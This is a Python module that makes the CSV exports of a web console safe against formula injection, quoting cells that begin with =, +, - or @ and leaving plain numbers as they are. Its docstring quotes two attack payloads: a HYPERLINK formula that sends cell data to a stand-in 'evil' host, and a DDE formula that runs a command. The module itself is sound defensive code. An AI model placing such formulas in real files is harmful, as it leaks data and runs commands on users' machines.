"""Cells that stay data in a spreadsheet: the one place every CSV the console offers is made safe.

A CSV opened in Excel, LibreOffice or Google Sheets runs a cell that begins with ``=``, ``+``, ``-``
or ``@`` as a formula (``=HYPERLINK("http://evil/?"&A1)``, DDE ``=cmd|' /C calc'!A0``), and a tab
or carriage return in front of them is skipped by some of them. Such cells come from API customers,
FAQ questions, model output and typed names. Following OWASP's "CSV Injection" advice (the
mitigation spreadsheet vendors document too):

- a text cell whose first character — or first character after leading white space, tabs and
  carriage returns — is ``=``, ``+``, ``-``, ``@`` (or their full-width forms, which IME input
  produces), or that begins with a tab or carriage return, gets a single quote in front, so the
  spreadsheet shows it as text;
- a cell that is a plain number (``-3``, ``+81``, ``1,980``, ``-0.5``) is left alone, so numbers stay
  numbers and readable;
- a bare CR (or CRLF) inside a cell becomes LF and the cell is quoted, so a cell never splits a row;
  double quotes are doubled by the CSV writer (RFC 4180), rows end in CRLF;
- headers go through the same rule; the file is UTF-8 with a BOM, so Excel reads Japanese.

:func:`safe_cell` is the rule for one value; :func:`safe_frame` applies it to a table (also for
tables shown in the browser, whose own "download as CSV" button writes cells as they are);
:func:`csv_bytes` is the CSV every download uses. Linear in the input; no regular expression.
"""
from __future__ import annotations

from typing import Any

FORMULA_STARTS = frozenset("=+-@＝＋－＠")
_LEADING_BLANKS = " \t\r\n\u3000\u00a0"
_MAX_NUMBER_CHARS = 40
_DIGITS = frozenset("0123456789")


def _is_plain_number(text: str) -> bool:
    """``-3``, ``+81``, ``1,980,000``, ``-0.5``: an optional sign, ASCII digits (commas between them)
    and at most one decimal point with digits after it. Nothing else, at most 40 characters."""
    if not text or len(text) > _MAX_NUMBER_CHARS:
        return False
    body = text[1:] if text[0] in "+-" else text
    whole, dot, fraction = body.partition(".")
    if not whole or whole[0] not in _DIGITS or whole[-1] not in _DIGITS:
        return False
    if any(c not in _DIGITS and c != "," for c in whole) or ",," in whole:
        return False
    return not dot or (bool(fraction) and all(c in _DIGITS for c in fraction))


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet shows it as data: text that a spreadsheet would run as a formula gets
    a leading ``'``; line breaks are LF only. Numbers, ``None`` and other non-text values are unchanged."""
    if not isinstance(value, str):
        return value
    text = value.replace("\r\n", "\n").replace("\r", "\n") if "\r" in value else value
    if not text:
        return text
    stripped = text.lstrip(_LEADING_BLANKS)
    if (value[0] in "\t\r" or (stripped and stripped[0] in FORMULA_STARTS)) and not _is_plain_number(text):
        return "'" + text  # (a plain number is looked for only here: most text starts with neither)
    return text


def safe_frame(frame: Any) -> Any:
    """A copy of a pandas ``DataFrame`` (or anything ``pandas.DataFrame`` accepts) with every cell, the
    column names and the index through :func:`safe_cell`."""
    import pandas as pd  # lazy: pandas is heavy and only exports and tables need it

    table = frame.copy() if isinstance(frame, pd.DataFrame) else pd.DataFrame(frame)
    table.columns = [safe_cell(c) for c in table.columns]
    table.index = table.index.map(safe_cell)
    for column in table.columns[[dtype == object or pd.api.types.is_string_dtype(dtype)
                                  for dtype in table.dtypes]]:
        table[column] = table[column].map(safe_cell).astype(object)
    return table


def csv_bytes(frame: Any, *, index: bool = False) -> bytes:
    """The CSV of a table as the console offers it for download: every cell through :func:`safe_cell`,
    RFC 4180 quoting, CRLF line ends, UTF-8 with a BOM (Excel)."""
    return safe_frame(frame).to_csv(index=index, lineterminator="\r\n").encode("utf-8-sig")


__all__ = ["FORMULA_STARTS", "csv_bytes", "safe_cell", "safe_frame"]
